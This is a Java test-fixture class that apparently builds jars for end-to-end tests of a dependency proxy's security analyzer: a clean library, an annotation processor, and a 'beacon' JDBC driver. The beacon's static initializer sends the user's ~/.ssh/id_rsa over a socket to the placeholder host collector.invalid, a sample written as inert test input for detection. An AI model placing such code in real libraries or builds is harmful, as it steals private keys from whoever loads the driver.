package dev.gatehouse.proxy.e2e;

import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * The jars the end-to-end tests serve, compiled from source text by the analyzer's {@link JarFixture}
 * under the file names a repository layout needs. Nothing in them is ever run.
 */
final class FixtureJar {
  private final JarFixture.Builder jar = JarFixture.builder();

  static FixtureJar builder() {
    return new FixtureJar();
  }

  /** A class from source text; {@code className} is binary-style with slashes, as in {@code fixture/Beacon}. */
  FixtureJar javaSource(String className, String source) {
    jar.javaSource(className, source);
    return this;
  }

  /** A {@code META-INF/services/<service>} file naming {@code provider}. */
  FixtureJar service(String service, String provider) {
    jar.service(service, provider);
    return this;
  }

  Path build(Path dir, String fileName) {
    try {
      return Files.write(dir.resolve(fileName), jar.toBytes());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A plain library: a class with a method and nothing that runs on its own. */
  static FixtureJar clean(String pkg) {
    return builder().javaSource(pkg + "/Greeter", """
        package %s;
        public class Greeter {
          public String greet(String name) { return "hello " + name; }
        }
        """.formatted(pkg));
  }

  /** A JDBC driver whose static initializer sends ~/.ssh/id_rsa to collector.invalid. Inert: never run. */
  static FixtureJar beacon() {
    return builder().service("java.sql.Driver", "fixture.Beacon").javaSource("fixture/Beacon", """
        package fixture;
        import java.nio.file.*;
        public class Beacon {
          static {
            try (var s = new java.net.Socket("collector.invalid", 443)) {
              s.getOutputStream().write(Files.readAllBytes(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")));
            } catch (Exception e) { }
          }
        }
        """);
  }

  /** An annotation processor: build-time code, quarantined under the default policy. */
  static FixtureJar processor() {
    return builder().service("javax.annotation.processing.Processor", "fixture.Shaper")
        .javaSource("fixture/Shaper", """
            package fixture;
            import java.util.Set;
            import javax.annotation.processing.*;
            import javax.lang.model.element.TypeElement;
            @SupportedAnnotationTypes("*")
            public class Shaper extends AbstractProcessor {
              @Override public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment env) {
                return false;
              }
            }
            """);
  }
}
